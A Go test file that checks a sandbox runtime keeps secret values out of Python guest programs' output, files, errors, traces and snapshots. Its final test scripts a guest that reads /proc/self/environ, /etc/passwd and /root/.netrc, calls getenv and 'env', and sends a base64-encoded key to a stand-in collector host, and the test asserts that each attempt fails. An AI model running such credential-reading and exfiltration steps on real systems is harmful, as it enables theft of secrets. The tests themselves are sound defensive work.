package security_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/eryx-go/eryx/core"
)

// Claim: the program never has the value of a secret, and what it leaves does not even have the placeholder.

// everything is all that a result says.
func everything(r *core.Result, e *core.Error) string {
	text := fmt.Sprintf("%s\n%s\n%s\n%v\n%s\n%v", r.Stdout, r.Stderr, r.JSON, r.Value, r.JSONError, r.Trace)
	if e != nil {
		text += fmt.Sprintf("\n%s\n%s\n%+v", e.Error(), e.Message, e.Python)
	}
	return text
}

// 63 to 67, 74, 75, 77, 78, 84: by whatever way the program looks at it.
func TestSecretIsNotInTheGuest(t *testing.T) {
	for _, test := range []struct{ name, code, want string }{
		{"63 print", "print(key)", "[REDACTED]\n"},
		{"64 stderr", "import sys; sys.stderr.write(key); os.write(2, key.encode())", ""},
		{"65 character by character", "for c in key: print(c, end='', flush=True)", "[REDACTED]"},
		{"65 with delays", "import asyncio\nfor c in key:\n    print(c, end='', flush=True); await asyncio.sleep(0)", "[REDACTED]"},
		{"66 encoded", "print(base64.b64decode(base64.b64encode(key.encode())).decode(), bytes.fromhex(key.encode().hex()).decode())", "[REDACTED] [REDACTED]\n"},
		{"67 what it is", "print(key.startswith('ERYX_SECRET_' + 'PLACEHOLDER_'), len(key))", "True 56\n"},
		{"74 all variables", "print(sorted(os.environ.items())[:0], dict(os.environ)['KEY'], os.environb[b'KEY'].decode())", "[] [REDACTED] [REDACTED]\n"},
		{"75 frames", "import sys; f = sys._getframe(); print(f.f_globals['key'], f.f_code.co_consts[:0])", "[REDACTED] ()\n"},
		{"77 a file", "open('/data/f', 'w').write(key); print(open('/data/f').read())", "[REDACTED]**********************************************\n"},
		{"77 a file, byte by byte", "f = open('/tmp/f', 'wb', 0)\nfor c in key.encode(): f.write(bytes([c]))\nprint(open('/tmp/f').read()[:10])", "[REDACTED]\n"},
		{"77 a file, backwards", "f = open('/tmp/f', 'wb', 0)\nfor i in reversed(range(56)): f.seek(i); f.write(key[i].encode())\nprint(open('/tmp/f').read()[:10])", "[REDACTED]\n"},
		{"78 its length", "print(len(key), len(other))", "56 56\n"},
		{"84 NUL bytes", "print('\\0' + key + '\\0')", "\x00[REDACTED]\x00\n"},
		{"84 look-alikes", "print(key[:30] + key, key + key[-3:] * 0)", ""},
	} {
		t.Log(test.name)
		config := withSecrets()
		config.Trace = true
		result, err := run(t, config, secretProgram+test.code)
		if test.want != "" {
			wantStdout(t, result, err, test.want)
		}
		text := everything(result, err)
		noValue(t, test.name, text)
		for _, value := range result.Trace {
			if strings.Contains(fmt.Sprint(value), marker) {
				t.Errorf("%s: the trace has a placeholder", test.name)
			}
		}
	}
}

// 64, exactly.
func TestSecretOnStderr(t *testing.T) {
	result, err := run(t, withSecrets(), secretProgram+"import sys; print(key, file=sys.stderr); sys.stderr.write(key); os.write(2, key.encode())")
	wantStdout(t, result, err, "")
	if got := string(result.Stderr); got != "[REDACTED]\n[REDACTED][REDACTED]" {
		t.Errorf("stderr %q", got)
	}
}

// 76, 89, 90: exceptions that nobody catches, their tracebacks, and the trace.
func TestSecretInErrors(t *testing.T) {
	config := withSecrets()
	config.Trace = true
	config.Callbacks = []core.Callback{{Name: "tell", Func: func(_ context.Context, args map[string]any) (any, error) {
		if text := fmt.Sprint(args); text != "map[x:map[[REDACTED]:[[REDACTED]]]]" {
			t.Errorf("the host function got %s", text)
		}
		return nil, core.CallbackErrorf("code", "failed")
	}}}
	result, err := run(t, config, secretProgram+`
def f(k):
    raise RuntimeError("no " + k) from KeyError(k)
try: await tell(x={key: [key]})
except CallbackError: pass
exec(compile("f(key)", "file " + key, "exec"))
`)
	wantPython(t, err, "RuntimeError")
	if err.Python.Message != "no [REDACTED]" || !strings.Contains(err.Python.Traceback, `File "file [REDACTED]"`) || !strings.Contains(err.Python.Traceback, "KeyError: '[REDACTED]'") {
		t.Errorf("%+v", err.Python)
	}
	text := everything(result, err)
	if strings.Contains(text, marker) {
		t.Error("a placeholder is left")
	}
	noValue(t, "the outcome", text)
}

// 87: scrubbing is a choice, and of results one that is not made by itself.
func TestSecretScrubbingOff(t *testing.T) {
	config := withSecrets()
	config.Scrub = core.Scrubbing{KeepStdout: true, KeepStderr: true, KeepFiles: true}
	result, err := run(t, config, secretProgram+"import sys; print(key); print(key, file=sys.stderr); open('/data/f', 'w').write(key); print(open('/data/f').read() == key); result = key")
	if err != nil || !strings.HasPrefix(string(result.Stdout), marker) || !strings.HasPrefix(string(result.Stderr), marker) || !strings.HasSuffix(string(result.Stdout), "\nTrue\n") || !strings.HasPrefix(string(result.JSON), `"`+marker) {
		t.Errorf("%v, %+v", err, result)
	}
	noValue(t, "the outcome", everything(result, err))
	config.Scrub = core.Scrubbing{Result: true}
	result, err = run(t, config, secretProgram+"result = {'k': [key]}")
	if err != nil || string(result.JSON) != `{"k": ["[REDACTED]"]}` {
		t.Errorf("%v, %s", err, result.JSON)
	}
}

// Every sandbox draws placeholders of its own, and a session's snapshot has nothing but them.
func TestSecretPlaceholders(t *testing.T) {
	seen := map[string]bool{}
	for range 3 {
		config := withSecrets()
		config.Scrub.KeepStdout = true
		result, err := run(t, config, secretProgram+"print(key)")
		wantStdout(t, result, err, string(result.Stdout))
		if seen[string(result.Stdout)] {
			t.Error("two sandboxes have the same placeholder")
		}
		seen[string(result.Stdout)] = true
	}
	session, err := rt.NewSession(withSecrets())
	if err != nil {
		t.Fatal(err)
	}
	defer session.Close()
	if _, err := session.Execute(context.Background(), secretProgram); err != nil {
		t.Fatal(err)
	}
	image, err := session.Snapshot()
	if err != nil {
		t.Fatal(err)
	}
	noValue(t, "the snapshot", string(image))
}

// 91: what else a program might try to get at the value, or to carry it out.
func TestSecretOtherWays(t *testing.T) {
	theirs := newCollector(t, "127.0.0.2:0", nil)
	t.Setenv("ERYX_TEST_HOST_VARIABLE", secretValue)
	result, err := run(t, withSecrets(), secretProgram+fmt.Sprintf(`
import gc, subprocess
print("ERYX_TEST_HOST_VARIABLE" in os.environ)
for path in ("/proc/self/environ", "/etc/passwd", "/root/.netrc"):
    try: print(open(path).read())
    except OSError as e: print(type(e).__name__)
try:
    import ctypes
    ctypes.CDLL(None).getenv(b"X"); print("called")
except (ImportError, OSError, AttributeError) as e: print(type(e).__name__)
try: subprocess.run(["env"]); print("ran")
except OSError as e: print(type(e).__name__)
needle = base64.b64decode("dGhlLXJlYWwtdmFsdWUtOWYzYw==").decode()
texts = [r for o in gc.get_objects() for r in gc.get_referents(o) if isinstance(r, (str, bytes))]
print(len(texts) > 100, [t for t in texts if t is not needle and needle.encode() in (t if isinstance(t, bytes) else t.encode("utf-8", "replace"))])
print(eval("key") == key, raw("127.0.0.2", %s, b"data=" + base64.b64encode(key.encode())))
`, theirs.port()))
	wantStdout(t, result, err, "False\nFileNotFoundError\nFileNotFoundError\nFileNotFoundError\nOSError\nOSError\nTrue []\nTrue \n")
	noValue(t, "the other host", theirs.got())
	noValue(t, "the outcome", everything(result, err))
}
